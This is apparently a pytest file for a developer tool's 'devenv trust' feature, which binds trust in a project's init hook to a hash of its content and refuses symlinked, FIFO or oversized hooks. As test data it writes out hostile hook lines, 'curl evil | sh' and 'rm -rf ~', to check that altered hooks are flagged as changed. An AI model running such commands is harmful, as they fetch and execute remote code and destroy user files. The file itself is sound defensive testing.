"""Trust in a project's init hook is bound to its content (docs/security.md, "The workspace
init hook"): the library (devenv.workspaces.trust) and ``devenv trust``."""

from __future__ import annotations

import hashlib
import os
import sqlite3
from pathlib import Path

import pytest

from devenv import cli, hostile, state
from devenv.errors import ConfigError
from devenv.workspaces import trust

HOOK = b"#!/bin/sh\necho setting up\n"


@pytest.fixture
def project(tmp_path: Path) -> Path:
    path = tmp_path / "proj"
    (path / ".devenv").mkdir(parents=True)
    (path / ".devenv" / "init").write_bytes(HOOK)
    return path


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    path = tmp_path / "host-secret"
    path.write_text("#!/bin/sh\necho HOST SECRET\n")
    return path


def test_read_hook(project: Path, tmp_path: Path) -> None:
    assert trust.read_hook(str(project)) == HOOK
    (tmp_path / "bare").mkdir()
    assert trust.read_hook(str(tmp_path / "bare")) is None
    # Through a link to the project itself (above it: the user's own path): resolved.
    (tmp_path / "via").symlink_to(project)
    assert trust.read_hook(str(tmp_path / "via")) == HOOK


@pytest.mark.parametrize("plant", ["init", ".devenv", "dangling", "directory", "fifo"])
def test_a_hook_that_is_no_plain_file_of_the_project_is_refused(
        project: Path, secret: Path, tmp_path: Path, plant: str) -> None:
    init = project / ".devenv" / "init"
    init.unlink()
    if plant == "init":
        init.symlink_to(secret)
    elif plant == ".devenv":
        other = tmp_path / "other"
        other.mkdir()
        (other / "init").write_bytes(HOOK)
        os.rename(project / ".devenv", tmp_path / "old")
        (project / ".devenv").symlink_to(other)
    elif plant == "dangling":
        init.symlink_to(tmp_path / "nowhere")
    elif plant == "directory":
        init.mkdir()
    else:
        os.mkfifo(init)
    with pytest.raises(hostile.LinkRefused, match="never follows a link") as info:
        trust.read_hook(str(project))
    assert info.value.exit_code == 7 and info.value.hint
    with pytest.raises(hostile.LinkRefused):
        trust.trust(str(project))
    conn = state.connect()
    try:
        assert state.all_trust_records(conn) == []  # nothing was recorded
    finally:
        conn.close()


def test_a_huge_hook_is_refused(project: Path) -> None:
    with open(project / ".devenv" / "init", "wb") as f:
        f.truncate(trust.MAX_HOOK_BYTES + 1)
    with pytest.raises(ConfigError, match="larger than 1 MiB"):
        trust.read_hook(str(project))
    with open(project / ".devenv" / "init", "wb") as f:
        f.truncate(trust.MAX_HOOK_BYTES)
    assert len(trust.read_hook(str(project)) or b"") == trust.MAX_HOOK_BYTES


def test_trust_binds_to_the_content(project: Path) -> None:
    before = trust.status(str(project), HOOK)
    assert not before.trusted and before.verdict == trust.NOT_TRUSTED
    assert "devenv trust" in before.note
    done = trust.trust(str(project))
    assert done.trusted and done.verdict == trust.TRUSTED
    assert done.hook_sha256 == hashlib.sha256(HOOK).hexdigest() and done.size == len(HOOK)
    assert trust.status(str(project), HOOK).trusted
    # Other content (what an agent wrote) is not trusted, whatever the file says now.
    other = trust.status(str(project), HOOK + b"curl evil | sh\n")
    assert not other.trusted and other.verdict == trust.CHANGED
    assert "the hook changed since you trusted it" in other.note
    (project / ".devenv" / "init").write_bytes(HOOK + b"curl evil | sh\n")
    assert trust.show(str(project)).verdict == trust.CHANGED
    # Without a hook now: not what was trusted either.
    gone = trust.status(str(project), None)
    assert not gone.trusted and "removed" in gone.note
    # Trusting again trusts the new content, and only it.
    assert trust.trust(str(project)).trusted
    assert not trust.status(str(project), HOOK).trusted


def test_trust_without_a_hook(project: Path) -> None:
    (project / ".devenv" / "init").unlink()
    done = trust.trust(str(project))
    assert done.trusted and done.size is None and done.hook_sha256 == trust.NO_HOOK
    assert trust.status(str(project), None).trusted
    appeared = trust.status(str(project), HOOK)
    assert not appeared.trusted and "appeared" in appeared.note
    # A hook whose content happens to be the marker's text is no match for "no hook".
    assert not trust.status(str(project), trust.NO_HOOK.encode()).trusted


def test_trust_is_per_project_and_keyed_by_the_real_path(project: Path,
                                                         tmp_path: Path) -> None:
    (tmp_path / "via").symlink_to(project)
    trust.trust(str(tmp_path / "via"))
    assert trust.status(str(project), HOOK).trusted
    other = tmp_path / "other"
    (other / ".devenv").mkdir(parents=True)
    (other / ".devenv" / "init").write_bytes(HOOK)
    assert not trust.status(str(other), HOOK).trusted  # same content, other project


def test_revoke(project: Path) -> None:
    assert trust.revoke(str(project)) is False
    trust.trust(str(project))
    assert trust.revoke(str(project)) is True
    assert trust.status(str(project), HOOK).verdict == trust.NOT_TRUSTED
    assert trust.revoke(str(project)) is False


def test_every_status(project: Path, tmp_path: Path) -> None:
    trust.trust(str(project))
    gone = tmp_path / "gone"
    gone.mkdir()
    trust.trust(str(gone))
    gone.rmdir()
    found = {item.path: item for item in trust.every_status()}
    assert found[str(project)].trusted
    assert found[str(gone)].verdict == trust.UNREADABLE
    assert "gone" in found[str(gone)].note and not found[str(gone)].trusted


def test_an_older_database_gains_the_table(devenv_home: Path) -> None:
    """One migration, appended: a database of the version before gets the table and keeps
    what it had."""
    from devenv.paths import db_path

    path = db_path()
    path.parent.mkdir(parents=True)
    old = sqlite3.connect(path)
    for script in state._MIGRATIONS[:-1]:
        old.executescript(script)
    old.execute(f"PRAGMA user_version = {len(state._MIGRATIONS) - 1}")
    old.execute("INSERT INTO write_grants VALUES ('/p', 1000, 1, 0)")
    old.commit()
    old.close()
    conn = state.connect()
    try:
        assert conn.execute("PRAGMA user_version").fetchone()[0] == len(state._MIGRATIONS)
        columns = [row[1] for row in conn.execute("PRAGMA table_info(trust)")]
        assert columns == ["path", "hook_sha256", "trusted"]
        assert state.write_grant(conn, "/p") is not None
    finally:
        conn.close()


# -- devenv trust ----------------------------------------------------------------------------


def test_cli_trust_show_list_revoke(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (project / "src").mkdir()
    assert cli.main(["trust", str(project / "src")]) == 0  # the project src is in
    captured = capsys.readouterr()
    assert f"trusted {project} for its .devenv/init ({len(HOOK)} bytes, sha256 " \
           f"{hashlib.sha256(HOOK).hexdigest()})" in captured.out
    assert f"project {project}" in captured.err
    assert cli.main(["trust", "--show", str(project)]) == 0
    assert capsys.readouterr().out.startswith(f"{project}: trusted for this .devenv/init")
    (project / ".devenv" / "init").write_bytes(b"#!/bin/sh\nrm -rf ~\n")
    assert cli.main(["trust", "--show", str(project)]) == 0
    assert "the hook changed since you trusted it" in capsys.readouterr().out
    assert cli.main(["trust", "--list"]) == 0
    out = capsys.readouterr().out.splitlines()
    assert out[0].split() == ["STATUS", "HOOK", "TRUSTED", "AT", "PATH"]
    assert out[1].startswith("changed ") and out[1].endswith(str(project))
    assert cli.main(["trust", "--revoke", str(project)]) == 0
    assert "revoked trust in" in capsys.readouterr().out
    assert cli.main(["trust", "--revoke", str(project)]) == 0
    assert "was not trusted" in capsys.readouterr().out
    assert cli.main(["trust", "--list"]) == 0
    assert "no trusted projects" in capsys.readouterr().out


def test_cli_trust_without_a_hook_and_with_here(tmp_path: Path,
                                                capsys: pytest.CaptureFixture[str]) -> None:
    plain = tmp_path / "plain"
    plain.mkdir()
    assert cli.main(["trust", "--here", str(plain)]) == 0
    assert "without a .devenv/init" in capsys.readouterr().out
    assert cli.main(["trust", "--show", str(plain)]) == 0
    assert "trusted without a .devenv/init" in capsys.readouterr().out


def test_cli_refuses_a_linked_hook(project: Path, secret: Path,
                                   capsys: pytest.CaptureFixture[str]) -> None:
    (project / ".devenv" / "init").unlink()
    (project / ".devenv" / "init").symlink_to(secret)
    assert cli.main(["trust", str(project)]) == 7
    err = capsys.readouterr().err.splitlines()
    assert len(err) == 2 and "never follows a link" in err[0] and err[1].startswith(
        "devenv: hint: ")
    assert cli.main(["trust", "--show", str(project)]) == 7


def test_cli_revoke_of_a_project_that_is_gone(project: Path,
                                              capsys: pytest.CaptureFixture[str]) -> None:
    trust.trust(str(project))
    (project / ".devenv" / "init").unlink()
    (project / ".devenv").rmdir()
    project.rmdir()
    assert cli.main(["trust", "--revoke", str(project)]) == 0
    assert f"revoked trust in {project}" in capsys.readouterr().out
    assert cli.main(["trust", "--revoke", str(project)]) == 2  # no record: no such path


@pytest.mark.parametrize("argv", [["trust", "--list", "."], ["trust", "--show", "--revoke"]])
def test_cli_usage_errors(argv: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    assert cli.main(argv) == 2


def test_cli_help(capsys: pytest.CaptureFixture[str]) -> None:
    assert cli.main(["trust", "-h"]) == 0
    out = capsys.readouterr().out
    assert "usage: devenv trust" in out and "--revoke" in out and "symbolic link" in out
    assert cli.main(["help"]) == 0
    assert "trust" in capsys.readouterr().out
